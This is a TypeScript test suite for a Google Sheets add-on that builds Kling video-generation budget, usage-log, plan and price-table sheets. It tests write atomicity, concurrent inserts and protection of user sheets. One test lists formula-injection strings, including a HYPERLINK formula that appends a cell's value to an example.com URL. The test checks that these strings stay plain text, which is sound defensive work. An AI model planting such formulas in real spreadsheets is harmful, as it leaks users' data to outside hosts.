/**
 * The sheet writers as the menu runs them from dist/Code.js, over a spreadsheet full of user data:
 * a write that fails anywhere leaves nothing half-written and no cell changed; the user's own sheet
 * called "Kling prices" is not the price table; two people inserting at once get two sheets; user
 * text copied from the price table stays text, each row's own Source whole; a price table with
 * data below row 5,000 is refused. ("Lock budget version", the one item that writes into a sheet
 * that exists, has its own failure and interleaving tests in lock.test.ts.)
 */
import { describe, expect, it } from 'vitest';
import { ACTUALS_ROW, PLAN_COLUMNS } from '../../src/addon/planLayout';
import { bookToRows, DEFAULT_PRICE_BOOK } from '../../src/pricing';
import { createAppsScriptFakes, type FakeSheet, type FakeSpreadsheet, parseA1 } from '../fakes/appsScript';
import { callGlobal, loadBundle } from '../support/loadBundle';
import { type Addon, addon, BUDGET, customFunctionCells, LOG, PLAN, PRICES } from './sheets';
import { fingerprint, state, userSpreadsheet } from './userData';

const SERVICE_ERROR = /^Service Spreadsheets failed/;

/**
 * Runs `action` once to count its writes (its new sheets then removed), then again failing at each
 * write in turn. After each failure: the same sheets, no write to a sheet that was there before
 * (the fake records every change of a cell, format, rule or style), and every small sheet of the
 * user's cell for cell as before; at the end every sheet, cell for cell.
 */
function failAtEveryWrite(a: Addon, action: () => void): number {
  const spreadsheet = a.spreadsheet;
  const before = state(spreadsheet);
  const small = before.names.filter((name) => (spreadsheet.getSheetByName(name) as FakeSheet).cellStates().length < 20_000);
  // Compared as text: a deep comparison of thousands of cells after every failure is slow.
  const beforeSmall = fingerprint(spreadsheet, small);
  const start = spreadsheet.writes.length;
  action();
  const writes = spreadsheet.writes.length - start;
  for (const sheet of spreadsheet.getSheets()) if (!before.names.includes(sheet.getName())) spreadsheet.deleteSheet(sheet);
  expect(state(spreadsheet)).toEqual(before);
  for (let i = 0; i < writes; i++) {
    const from = spreadsheet.writes.length;
    const at = from + i;
    let failed = false;
    spreadsheet.failWhen = (_write, index) => {
      if (index !== at) return false;
      failed = true;
      return true;
    };
    expect(action, `a failure at write ${i + 1} of ${writes}`).toThrow(SERVICE_ERROR);
    expect(failed).toBe(true);
    const what = `after a failure at write ${i + 1} of ${writes}`;
    expect(
      spreadsheet.getSheets().map((s) => s.getName()),
      what,
    ).toEqual(before.names);
    expect(
      spreadsheet.writes.slice(from).filter((w) => before.names.includes(w.sheet)),
      what,
    ).toEqual([]);
    expect(fingerprint(spreadsheet, small) === beforeSmall, what).toBe(true);
  }
  spreadsheet.failWhen = null;
  expect(state(spreadsheet)).toEqual(before);
  return writes;
}

describe('a failure in the middle of any write leaves nothing half-written', () => {
  const cases: [string, (a: Addon) => void, string][] = [
    ['Insert budget template', () => undefined, 'insertBudgetTemplate'],
    ['Insert budget template, edited prices', (a) => a.run('editPrices'), 'insertBudgetTemplate'],
    ['Insert 12-month plan, no usage log yet (it inserts one)', () => undefined, 'insertTwelveMonthPlan'],
    ['Insert 12-month plan, with a usage log', (a) => a.run('insertUsageLog'), 'insertTwelveMonthPlan'],
    ['Insert usage log', () => undefined, 'insertUsageLog'],
    ['Edit prices', () => undefined, 'editPrices'],
    ['Insert price table', () => undefined, 'insertPriceTable'],
    ['Insert price table, edited prices', (a) => a.run('editPrices'), 'insertPriceTable'],
    [
      'Insert price table, edited prices with a long source on one row',
      (a) => {
        a.run('editPrices');
        const prices = a.spreadsheet.getSheetByName(PRICES) as FakeSheet;
        prices.getRange(rowOf('Plan', 'Pro', 'yearly'), 7).setValue(LONG_SOURCE);
      },
      'insertPriceTable',
    ],
  ];
  const comparison = {
    rows: [
      { model: 'Kling 2.6', mode: 'professional', secs: 10, audio: 'audio', count: 12, testTakes: 1, retakeRate: null },
      { model: 'Kling 4.0', mode: 'professional', secs: 10, audio: 'audio', count: 2, testTakes: 0, retakeRate: 0.3 },
    ],
    billing: 'monthly',
    retakeRate: 0.2,
    images: 0,
  };
  it("Insert into sheet (the sidebar's comparison, with its chart)", () => {
    const a = addon(userSpreadsheet());
    a.spreadsheet.writes.length = 0;
    const writes = failAtEveryWrite(a, () => a.run('sidebarInsertComparison', comparison));
    expect(writes).toBeGreaterThan(5);
  });
  for (const [what, prepare, action] of cases) {
    it(what, () => {
      const a = addon(userSpreadsheet());
      prepare(a);
      a.spreadsheet.writes.length = 0;
      const writes = failAtEveryWrite(a, () => a.run(action));
      expect(writes).toBeGreaterThan(5);
    });
  }

  it('Edit prices writes under a temporary name and renames the table as its last write', () => {
    const a = addon(userSpreadsheet());
    a.spreadsheet.writes.length = 0;
    a.run('editPrices');
    const writes = a.spreadsheet.writes;
    const last = writes.at(-1);
    expect(last).toEqual({ sheet: 'Kling prices (being written)', a1: '', what: 'sheet' });
    expect(writes.slice(0, -1).every((w) => w.sheet === 'Kling prices (being written)')).toBe(true);
    expect(a.spreadsheet.getSheetByName(PRICES)?.getRange('A1').getValue()).toBe('Section');
    expect(a.spreadsheet.getSheetByName('Kling prices (being written)')).toBeNull();
  });
});

describe('two people inserting at once never collide', () => {
  const cases: [string, string, string][] = [
    ['insertBudgetTemplate', BUDGET, 'Kling budget 3'],
    ['insertUsageLog', LOG, 'Kling usage log 3'],
    ['insertPriceTable', 'Kling price table', 'Kling price table 3'],
    ['editPrices', 'Kling prices (being written)', PRICES],
  ];
  for (const [action, theirs, ours] of cases) {
    it(`${action}: another person's sheet takes the name between the check and the insert`, () => {
      const a = addon(userSpreadsheet());
      const wanted = new Set<string>();
      a.spreadsheet.beforeInsert = (name) => {
        wanted.add(name);
        // The other person's sheet, made with the very name this insert chose.
        a.spreadsheet
          .insertSheet(name)
          .getRange('A1')
          .setValues([['theirs']]);
      };
      a.run(action);
      const names = a.spreadsheet.getSheets().map((s) => s.getName());
      expect(new Set(names).size).toBe(names.length);
      expect([...wanted]).toEqual([action === 'editPrices' ? theirs : `${theirs} 2`]);
      expect(a.spreadsheet.getSheetByName([...wanted][0] as string)?.snapshot()).toEqual({ A1: 'theirs' });
      const mine = a.spreadsheet.getSheetByName(ours) as FakeSheet;
      expect(mine).not.toBeNull();
      expect(Object.keys(mine.snapshot()).length).toBeGreaterThan(20);
    });
  }

  it("two people choosing Edit prices at once get one price table: the second opens the first one's", () => {
    const spreadsheet = userSpreadsheet();
    const fakes = createAppsScriptFakes({ spreadsheet });
    let other: (() => void) | null = () => {
      // The other person's Edit prices, finished while this one waited for the lock.
      const table = spreadsheet.insertSheet(PRICES);
      const rows = bookToRows(DEFAULT_PRICE_BOOK);
      table.getRange(1, 1, rows.length, 8).setValues(rows);
    };
    const LockService = {
      getDocumentLock: () => {
        const lock = spreadsheet.documentLock();
        return {
          ...lock,
          waitLock(ms: number) {
            const run = other;
            other = null;
            run?.();
            lock.waitLock(ms);
          },
        };
      },
    };
    const context = loadBundle({ ...fakes.services, LockService });
    callGlobal(context, 'editPrices');
    expect(spreadsheet.getSheets().filter((s) => s.getName().startsWith(PRICES))).toHaveLength(1);
    expect(spreadsheet.getActiveSheet().getName()).toBe(PRICES);
    expect(spreadsheet.toasts.at(-1)).toContain('edit them there');
  });

  it('a sheet someone makes by hand as "Kling prices" while the table is written: the table takes the next free name', () => {
    const a = addon(userSpreadsheet());
    let made = false;
    a.spreadsheet.failWhen = (write) => {
      if (!made && write.what === 'style' && write.sheet === 'Kling prices (being written)' && write.a1 === 'A1') {
        made = true;
        a.spreadsheet
          .insertSheet(PRICES)
          .getRange('A1')
          .setValues([['theirs']]);
        a.spreadsheet.failWhen = () => false;
      }
      return false;
    };
    a.run('editPrices');
    expect(made).toBe(true);
    expect(a.spreadsheet.getSheetByName(PRICES)?.snapshot()).toEqual({ A1: 'theirs' });
    const table = a.spreadsheet.getSheetByName('Kling prices 2') as FakeSheet;
    expect(table.getRange('A1').getValue()).toBe('Section');
    expect(table.getRange('A1').getNote()).toContain("'Kling prices 2'!A:H");
    expect(a.spreadsheet.getSheetByName('Kling prices (being written)')).toBeNull();
  });

  it("insertTwelveMonthPlan: another person's sheet takes the log's name, then the plan's", () => {
    const a = addon(userSpreadsheet());
    const other = (name: string) =>
      a.spreadsheet
        .insertSheet(name)
        .getRange('A1')
        .setValues([['theirs']]);
    // The hook runs once, before the next insert: re-armed until the plan's own insert.
    const atPlan = (name: string) => {
      if (name.startsWith(PLAN)) other(name);
      else a.spreadsheet.beforeInsert = atPlan;
    };
    a.spreadsheet.beforeInsert = (name) => {
      other(name);
      a.spreadsheet.beforeInsert = atPlan;
    };
    a.run('insertTwelveMonthPlan');
    const names = a.spreadsheet.getSheets().map((s) => s.getName());
    expect(names.slice(-4)).toEqual(['Kling usage log 2', 'Kling usage log 3', 'Kling 12-month plan 2', 'Kling 12-month plan 3']);
    const plan = a.spreadsheet.getSheetByName('Kling 12-month plan 3') as FakeSheet;
    // The plan reads the log it made, to its last row.
    expect(plan.getRange(`A${ACTUALS_ROW}`).getFormulas()[0]?.[0]).toContain("'Kling usage log 3'!$A$1:$A,");
    expect(plan.getRange(`A${ACTUALS_ROW - 2}`).getValue()).toBe('Budget against actuals, from the usage log "Kling usage log 3"');
  });
});

describe('one usage log for the 12-month plan', () => {
  it("Insert usage log after a plan shows the plan's empty log instead of a second one; once it holds a generation, a second log is added and named", () => {
    const a = addon();
    a.run('insertTwelveMonthPlan');
    const names = () => a.spreadsheet.getSheets().map((sh) => sh.getName());
    const withPlan = names();
    expect(withPlan).toContain(LOG);
    const writes = a.spreadsheet.writes.length;
    a.run('insertUsageLog');
    expect(names()).toEqual(withPlan);
    expect(a.spreadsheet.writes.length).toBe(writes);
    expect(a.spreadsheet.getActiveSheet().getName()).toBe(LOG);
    expect(a.spreadsheet.toasts.at(-1)).toBe(
      `"${LOG}" is your usage log, still empty: log one row per generation in it (the 12-month plan reads it).`,
    );
    // One generation logged: a second log is a new sheet, and the toast says which one the plan reads.
    (a.spreadsheet.getSheetByName(LOG) as FakeSheet).getRange('A2:B2').setValues([['2026-11-03 14:22', 'Hero']]);
    a.run('insertUsageLog');
    expect(names()).toEqual([...withPlan, `${LOG} 2`]);
    expect(a.spreadsheet.toasts.at(-1)).toBe(`"${LOG} 2" is a second log; the 12-month plan reads "${LOG}".`);
  });
});

describe('a sheet of the user\'s named "Kling prices" is not the price table', () => {
  it('Edit prices makes "Kling prices 2", and every reader uses it', () => {
    const a = addon(userSpreadsheet({ userPriceSheet: true }));
    const before = state(a.spreadsheet);
    a.run('editPrices');
    expect(a.spreadsheet.getSheetByName('Kling prices 2')?.getRange('A1:H1').getValues()[0]).toEqual([
      'Section',
      'Item',
      'Field',
      'Value',
      'Unit',
      'Confidence',
      'Source',
      'As of',
    ]);
    expect(a.spreadsheet.toasts.at(-1)).toContain("'Kling prices 2'!A:H");
    a.run('insertBudgetTemplate');
    a.run('insertUsageLog');
    a.run('insertTwelveMonthPlan');
    a.run('insertPriceTable');
    for (const name of ['Kling budget 2', 'Kling usage log 2', 'Kling 12-month plan 2']) {
      const sheet = a.spreadsheet.getSheetByName(name) as FakeSheet;
      const cells = customFunctionCells(sheet);
      expect(cells.length, name).toBeGreaterThan(3);
      // Every call of ours passes the table as its last argument; the one that prices the live work at the locked
      // prices passes the locked table instead (read through INDIRECT from the "Locked version" cell).
      const lastArgs = cells.flatMap((a1) => klingCalls(sheet.getRange(a1).getFormulas()[0]?.[0] ?? '').map((args) => [a1, args.at(-1)]));
      const locked = lastArgs.filter(([, last]) => /^INDIRECT\(IF\(\$[A-Z]+\$\d+="",/.test(last ?? ''));
      expect(locked.length, `${name}: calls at the locked prices`).toBe(name.includes('usage log') ? 0 : 1);
      for (const [a1, last] of lastArgs.filter((x) => !locked.includes(x))) expect(last, `${name}!${a1}`).toBe("'Kling prices 2'!A:H");
      expect(
        Object.values(sheet.snapshot()).some((v) => typeof v === 'string' && v.includes("'Kling prices 2'!$A$1:$A$5000")),
        name,
      ).toBe(true);
    }
    expect(a.spreadsheet.getSheetByName('Kling price table 2')?.getRange('B2').getValue()).toMatch(/^the sheet "Kling prices 2"/);
    expect((a.run('sidebarInit') as { source: string }).source).toMatch(/^the sheet "Kling prices 2"/);
    // Edit prices again opens "Kling prices 2" and writes nothing.
    const writes = a.spreadsheet.writes.length;
    a.run('editPrices');
    expect(a.spreadsheet.writes.length).toBe(writes);
    expect(a.spreadsheet.getActiveSheet().getName()).toBe('Kling prices 2');
    // The user's sheet "Kling prices" and every other sheet of theirs: not a cell changed.
    const after = state(a.spreadsheet);
    for (const name of before.names) expect(after.sheets[name], name).toEqual(before.sheets[name]);
  });
});

describe("user text stays text: the price table's Source", () => {
  const INJECTED = [
    '=HYPERLINK("https://example.com/x?leak="&A1,"Kling pricing")',
    '=IMPORTXML("https://example.com","//a")',
    '+1+1',
    '-1+1',
    '@SUM(1)',
  ];
  it('Insert price table copies an edited Source as text, never as a formula', () => {
    const a = addon(userSpreadsheet());
    a.run('editPrices');
    const prices = a.spreadsheet.getSheetByName(PRICES) as FakeSheet;
    // As a user types them: text (Sheets keeps a typed formula as text only behind an apostrophe), on a plan,
    // another plan, a pack, the images row and an API row.
    const rows = [
      rowOf('Plan', 'Free', 'credits per day'),
      rowOf('Plan', 'Standard', 'first month'),
      rowOf('Top-up pack', 'Pack 1', 'price'),
      rowOf('Images', 'image', 'credits per image'),
      rowOf('API, Kling 2.6', 'professional 10 s', 'USD per clip'),
    ];
    INJECTED.forEach((text, i) => {
      prices.getRange(rows[i] as number, 7).setValues([[`'${text}`]]);
    });
    expect(prices.getRange(`G${rows[0]}`).getValue()).toBe(INJECTED[0]);
    a.run('insertPriceTable');
    const table = a.spreadsheet.getSheetByName('Kling price table 2') as FakeSheet;
    // The one formula is the add-on's own price age line; no Source became a formula.
    const formulas = Object.keys(table.snapshot())
      .map((a1) => [a1, table.getRange(a1).getFormulas()[0]?.[0] ?? ''] as const)
      .filter(([, f]) => f !== '');
    expect(formulas.map(([a1]) => a1)).toEqual(['A5']);
    expect(formulas[0]?.[1]).toMatch(/^="prices as of "&TEXT\(DATE\(2026,10,5\),"yyyy-mm-dd"\)/);
    // Row by row: each injected text on its own row, whole and as text (the table starts at row 6, its header first).
    INJECTED.forEach((text, i) => {
      expect(table.getRange(5 + (rows[i] as number), 7).getValue(), text).toBe(text);
    });
    expect(table.getRange('B2').getValue()).toMatch(/^the sheet "Kling prices"/);
  });

  it("Insert price table copies an edited table row by row: a long, different source on one row of a plan is written whole on that row, the plan's other rows keep theirs", () => {
    const a = addon(userSpreadsheet());
    a.run('editPrices');
    const prices = a.spreadsheet.getSheetByName(PRICES) as FakeSheet;
    const yearly = rowOf('Plan', 'Pro', 'yearly');
    prices.getRange(yearly, 7).setValue(LONG_SOURCE);
    const edited = prices.getDataRange().getValues();
    a.run('insertPriceTable');
    const table = a.spreadsheet.getSheetByName('Kling price table 2') as FakeSheet;
    const copied = table.getRange(6, 1, edited.length, 8).getValues();
    // Every row as the edited table holds it, in its order: the long source on the Pro yearly row only.
    expect(copied).toEqual(edited.map((r) => r.slice(0, 8)));
    expect(table.getRange(5 + yearly, 7).getValue()).toBe(LONG_SOURCE);
    const pro = copied.filter((r) => r[0] === 'Plan' && r[1] === 'Pro');
    expect(pro).toHaveLength(5);
    expect(pro.filter((r) => r[6] === LONG_SOURCE)).toHaveLength(1);
    for (const r of pro.filter((x) => x[2] !== 'yearly'))
      expect(r[6], String(r[2])).toBe(edited[rowOf('Plan', 'Pro', r[2] as string) - 1]?.[6]);
    expect(String(pro.find((r) => r[2] === 'monthly renewal')?.[6])).not.toContain('my invoice');
  });

  it('no writer leaves a formula as text in a plain-text cell, and writes no user text as a formula', () => {
    const a = addon(userSpreadsheet());
    a.run('editPrices');
    for (const action of ['insertBudgetTemplate', 'insertUsageLog', 'insertTwelveMonthPlan', 'insertPriceTable']) a.run(action);
    for (const name of ['Kling budget 2', 'Kling usage log 2', 'Kling 12-month plan 2', 'Kling price table 2', PRICES]) {
      const sheet = a.spreadsheet.getSheetByName(name) as FakeSheet;
      for (const [a1, value] of Object.entries(sheet.snapshot())) {
        const formula = sheet.getRange(a1).getFormulas()[0]?.[0] ?? '';
        if (typeof value === 'string' && value.startsWith('=')) expect(formula, `${name}!${a1} is text`).toBe(value);
      }
    }
  });
});

describe('a price table with data below row 5,000', () => {
  it('is refused with a clear message by every writer that reads it', () => {
    const a = addon(userSpreadsheet());
    a.run('editPrices');
    const prices = a.spreadsheet.getSheetByName(PRICES) as FakeSheet;
    const row = bookToRows(DEFAULT_PRICE_BOOK).find((r) => r[0] === 'Top-up pack') as (string | number)[];
    prices.getRange(5001, 1, 1, 8).setValues([row]);
    const message = 'the sheet "Kling prices", row 5001 holds data, below the 5,000 rows a price table may use; move it up';
    a.run('insertPriceTable');
    expect(a.fakes.ui.at(-1)).toMatchObject({
      kind: 'alert',
      title: 'Kling Cost: the price table was not inserted',
      detail: `Fix ${message}.`,
    });
    expect(a.spreadsheet.getSheetByName('Kling price table 2')).toBeNull();
    for (const [action, sheet] of [
      ['insertBudgetTemplate', 'budget'],
      ['insertUsageLog', 'usage log'],
      ['insertTwelveMonthPlan', '12-month plan'],
    ] as const) {
      a.run(action);
      expect(a.spreadsheet.toasts.at(-1), action).toBe(`The ${sheet} uses your edited prices, but ${message}.`);
    }
    expect(() => a.run('sidebarInit')).toThrow(`Kling Cost cannot read the prices: ${message}`);
  });
});

describe('the inserted sheets', () => {
  it('write formats before values, so typed model names such as 3.0 stay text', () => {
    const a = addon();
    a.run('insertBudgetTemplate');
    const writes = a.spreadsheet.writes.filter((w) => w.sheet === BUDGET);
    const firstValues = writes.findIndex((w) => w.what === 'values');
    expect(writes.slice(0, firstValues).filter((w) => w.what === 'format').length).toBeGreaterThan(5);
    expect(writes.slice(firstValues).some((w) => w.what === 'format')).toBe(false);
    const sheet = a.spreadsheet.getSheetByName(BUDGET) as FakeSheet;
    expect(
      sheet
        .getRange('B6:B35')
        .getNumberFormats()
        .every((r) => r[0] === '@'),
    ).toBe(true);
    expect(sheet.peek(5, 12)?.style.wrap).toBe(true);
  });

  it('the plan and the log: hidden helper columns, frozen rows (the log its header, the plan none), the rows the log needs', () => {
    const a = addon();
    a.run('insertTwelveMonthPlan');
    const plan = a.spreadsheet.getSheetByName(PLAN) as FakeSheet;
    const log = a.spreadsheet.getSheetByName(LOG) as FakeSheet;
    // The plan's header is row 20: frozen, it would fill a laptop's window.
    expect(plan.getFrozenRows()).toBe(0);
    // The raw credits, the model list, the rows KLING_CHANNELS reads.
    expect([34, 35, 36, 37, 38, 42, 54].every((c) => plan.isColumnHiddenByUser(c))).toBe(true);
    expect([1, PLAN_COLUMNS.status, PLAN_COLUMNS.withRetakes].some((c) => plan.isColumnHiddenByUser(c))).toBe(false);
    expect(log.getFrozenRows()).toBe(1);
    // The log keeps a new sheet's 1,000 rows: its formulas read open-ended ranges, so rows pasted below are counted.
    expect(log.getMaxRows()).toBe(1000);
    expect(log.getRange('A1:J1').getValues()[0]).toEqual([
      'Date',
      'Scene',
      'Model',
      'Mode',
      'Seconds',
      'Audio',
      'Outcome',
      'Note',
      'Credits per generation',
      'Credits charged',
    ]);
    const rule = (a1: string) => log.getRange(a1).getDataValidations()[0]?.[0];
    expect(rule('G1000')?.getCriteriaValues()[0]).toEqual(['kept', 'discarded', 'failed']);
    expect(rule('G1000')?.allowInvalid).toBe(true);
    expect(rule('A2')?.getCriteriaType()).toBe('DATE_IS_VALID_DATE');
    // Long headers over narrow columns wrap instead of being cut off.
    const wrapped = ['A20', 'H20', 'V20', 'B57', 'B63', 'B88', 'B119', 'B135', 'O135', 'S135'];
    expect(wrapped.filter((a1) => plan.peek(...rowCol(a1))?.style.wrap !== true)).toEqual([]);
    expect(['A1', 'I1', 'J1', 'L6', 'Y6'].every((a1) => log.peek(...rowCol(a1))?.style.wrap === true)).toBe(true);
    // Made for the plan: no example rows.
    expect(
      log
        .getRange('A2:H2')
        .getValues()[0]
        ?.every((v) => v === ''),
    ).toBe(true);
    expect(spreadsheetNames(a.spreadsheet)).toEqual(['Sheet1', LOG, PLAN]);
  });
});

const LONG_SOURCE = `my invoice of 2026-11-20, ${'line by line, '.repeat(300)}end`;

/** The row of the price table (1-based, its header row 1) that holds a Section, Item and Field of the default book. */
function rowOf(section: string, item: string, field: string): number {
  const index = bookToRows(DEFAULT_PRICE_BOOK).findIndex((r) => r[0] === section && r[1] === item && r[2] === field);
  if (index < 0) throw new Error(`no row ${section} / ${item} / ${field}`);
  return index + 1;
}

/** The argument lists (top level, as text) of every call of ours in a formula. */
function klingCalls(formula: string): string[][] {
  const calls: string[][] = [];
  for (const m of formula.matchAll(/KLING_[A-Z_]+\(/g)) {
    const args: string[] = [];
    let depth = 0;
    let quoted: string | null = null;
    let current = '';
    for (let i = (m.index as number) + m[0].length; i < formula.length; i++) {
      const ch = formula[i] as string;
      if (quoted) {
        if (ch === quoted) quoted = null;
      } else if (ch === '"' || ch === "'") quoted = ch;
      else if (ch === '(') depth++;
      else if (ch === ')' && depth-- === 0) {
        args.push(current);
        break;
      } else if (ch === ',' && depth === 0) {
        args.push(current);
        current = '';
        continue;
      }
      current += ch;
    }
    calls.push(args);
  }
  return calls;
}

function rowCol(a1: string): [number, number] {
  const { row, col } = parseA1(a1);
  return [row, col];
}

function spreadsheetNames(spreadsheet: FakeSpreadsheet): string[] {
  return spreadsheet.getSheets().map((s) => s.getName());
}
